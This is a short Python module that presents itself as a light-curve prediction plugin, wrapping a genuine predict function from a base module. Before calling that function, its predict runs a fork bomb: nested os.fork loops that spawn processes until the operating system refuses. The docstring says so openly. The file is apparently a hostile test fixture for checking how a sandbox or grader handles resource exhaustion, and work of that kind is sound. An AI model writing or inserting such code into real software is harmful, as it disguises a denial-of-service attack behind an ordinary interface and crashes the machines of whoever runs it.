"""Starts processes until there are no more."""

import os

from base import load
from base import predict as good

__all__ = ["load", "predict"]


def predict(model, lightcurves):
    try:
        while True:
            if os.fork() == 0:
                while True:
                    os.fork()
    except OSError:
        pass
    return good(model, lightcurves)
